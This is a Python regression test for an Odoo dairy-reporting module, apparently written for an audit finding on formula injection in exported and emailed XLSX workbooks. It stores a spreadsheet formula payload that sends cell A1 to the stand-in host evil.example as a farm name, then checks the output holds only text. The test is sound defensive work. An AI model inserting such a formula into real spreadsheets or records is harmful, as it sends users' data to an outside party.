"""Issue 9, finding 7: a record named like a formula became a live formula in the
exported and mailed workbooks."""

import base64
import io
import zipfile

from odoo import Command
from odoo.tests import tagged

from .test_dashboard_export import ExportCase

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@tagged("post_install", "-at_install")
class TestXlsxFormulaInjection(ExportCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.farm_a.with_user(cls.analyst).name = EVIL

    def assertTextOnly(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            for name in sheets:
                xml = archive.read(name).decode()
                self.assertNotRegex(xml, r"<f[ >]", f"formula in {name}")
                self.assertNotIn("<hyperlink", xml)
        book = self.book(content)
        sheet = book["By farm"]
        cell = next(c for row in sheet.iter_rows() for c in row if c.value == EVIL)
        self.assertEqual(cell.data_type, "s")

    def test_exported_workbook_writes_the_farm_name_as_text(self):
        _name, _mimetype, content = self.Dashboard.with_user(self.user)._export_file(
            self.dashboard.id, {"preset": "today"}, "xlsx"
        )
        self.assertTextOnly(content)

    def test_mailed_workbook_writes_the_farm_name_as_text(self):
        partner = self.env["res.partner"].create({"name": "Boss", "email": "boss@example.com"})
        schedule = self.env["smart.dairy.report.schedule"].create(
            {
                "name": "Daily milk",
                "dashboard_id": self.dashboard.id,
                "company_id": self.company_a.id,
                "user_id": self.analyst.id,
                "preset": "today",
                "partner_ids": [Command.set(partner.ids)],
            }
        )
        schedule.with_user(self.analyst).action_send_now()
        log = schedule.log_ids
        self.assertEqual(log.state, "sent", log.error)
        self.assertEqual(log.mail_id.attachment_ids, log.attachment_id)
        content = base64.b64decode(log.attachment_id.datas)
        self.assertEqual(content[:2], b"PK")
        self.assertTextOnly(content)
